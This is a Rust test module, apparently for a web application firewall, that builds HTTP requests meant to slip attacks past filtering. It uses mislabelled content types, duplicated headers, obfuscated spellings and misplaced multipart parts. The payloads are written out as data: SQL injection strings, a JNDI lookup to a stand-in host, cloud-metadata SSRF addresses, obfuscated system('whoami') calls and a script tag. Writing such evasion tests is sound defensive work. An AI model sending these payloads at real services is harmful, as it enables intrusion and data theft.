//! Ways around that go by what content is said to be, by where in it something stands, and by how it is spelt.

use super::{Cases, get, post, request};

pub(super) fn other_media_types() -> Cases {
    let json = br#"{"a":"1\u0027 or \u00271\u0027=\u00271","z":"--x"}"#;
    let form = b"q=1%27%20or%20%271%27=%271&z=--x";
    let twice = |one: &str, other: &str, content: &[u8]| {
        request("POST", "/", &[("Content-Type", one), ("Content-Type", other)], content)
    };
    let urlencoded = "application/x-www-form-urlencoded";
    vec![
        ("JSON", post("application/json; a=\"multipart/\"; boundary=x", json)),
        ("a form", post("application/x-www-form-urlencoded; a=\"multipart/\"; boundary=x", form)),
        ("a form as XML", post("application/x-www-form-urlencoded; a=\"xml\"", form)),
        ("XML as JSON", post("text/xml; a=\"json\"", "<a>1&#39; or &#39;1&#39;=&#39;1</a>")),
        ("text", post("text/plain; a=\"multipart/\"; boundary=x", "<script>x()</script>\r\n--x")),
        ("a form in the second line", twice("text/xml", urlencoded, form)),
        ("a form beside a picture", twice("image/png", urlencoded, form)),
        ("JSON as a multipart form", post("multipart/form-data; boundary=x", json)),
        ("JSON as a form", post(urlencoded, json)),
        ("JSON as XML", post("text/xml", json)),
        ("XML as text", post("text/plain", "<a>1&#39; or &#39;1&#39;=&#39;1</a>")),
    ]
}

pub(super) fn other_spellings() -> Cases {
    let form = |content: &str| post("application/x-www-form-urlencoded", content);
    vec![
        ("a date in a lookup", form("q=${${date:'j'}ndi:ldap://e.example/a}")),
        ("an address as a name", form("q=http://a9fea9fe.nip.io/latest")),
        ("an address with hyphens", form("q=http://10-0-0-1.nip.io/")),
        ("a function in pieces", form("q=(sy.(st).em)(whoami);")),
        ("a function in parentheses", form("q=(system)(whoami);")),
        ("a function with escapes", form("q=\"\\x73ystem\"('id');")),
    ]
}

pub(super) fn places_of_forms() -> Cases {
    let field = "Content-Disposition: form-data; name=\"a\"";
    let form = |content: String| post("multipart/form-data; boundary=b", content);
    let part = |head: &str, content: &str| format!("--b\r\n{head}\r\n\r\n{content}\r\n");
    let file = |head: &str| form(part(head, "' or 1=1-- \u{1}") + "--b--");
    let quiet = part(field, "hello");
    vec![
        ("before its parts", form(format!("' or 1=1-- \r\n{quiet}--b--"))),
        ("behind its parts", form(format!("{quiet}--b--\r\n' or 1=1-- "))),
        ("between its parts", form(format!("{quiet}--b--\r\n' or 1=1-- \r\n{quiet}--b--"))),
        ("a form before", form(format!("q=1%27+or+1%3D1--+&b=\r\n{quiet}--b--"))),
        (
            "an empty line of another kind",
            form(format!("--b\n{field}\n\n' or 1=1-- \r\n\r\nx\n--b--")),
        ),
        ("two kinds in one", form(format!("--b\r\n{field}\r\n\n' or 1=1-- \r\n\r\nx--b--"))),
        ("no empty line", form(format!("--b\r\n{field}\r\n' or 1=1-- \r\n--b--"))),
        ("no file", file(&format!("{field}; filenamex=y\r\nContent-Type: image/png"))),
        (
            "a file without a name",
            file(&format!("{field}; filename=\"\"\r\nContent-Type: image/png")),
        ),
        (
            "a file of another field",
            file(&format!("X: y; filename=y\r\n{field}\r\nContent-Type: image/png")),
        ),
        (
            "a file in a name",
            file(
                "Content-Disposition: form-data; name=\"a; filename=y\"\r\nContent-Type: image/png",
            ),
        ),
        ("a file that is a page", file(&format!("{field}; filename=y\r\nContent-Type: text/html"))),
        (
            "a file that is SVG",
            file(&format!("{field}; filename=y\r\nContent-Type: image/svg+xml")),
        ),
    ]
}

pub(super) fn json_within_values() -> Cases {
    let json = "%7B%22q%22:%22%5Cu0027%20or%201=1--%20%22%7D";
    let string = r#"{"f":"{\"q\":\"\\u0027 or 1=1-- \"}"}"#;
    let cookie = format!("prefs={json}");
    vec![
        ("in a query", get(&format!("/?filter={json}"))),
        ("in a form", post("application/x-www-form-urlencoded", format!("filter={json}"))),
        ("in a cookie", request("GET", "/", &[("Cookie", cookie.as_str())], b"")),
        ("in JSON", post("application/json", string)),
        ("in a header", request("GET", "/", &[("X-Filter", r#"{"q":"\u0027 or 1=1-- "}"#)], b"")),
    ]
}
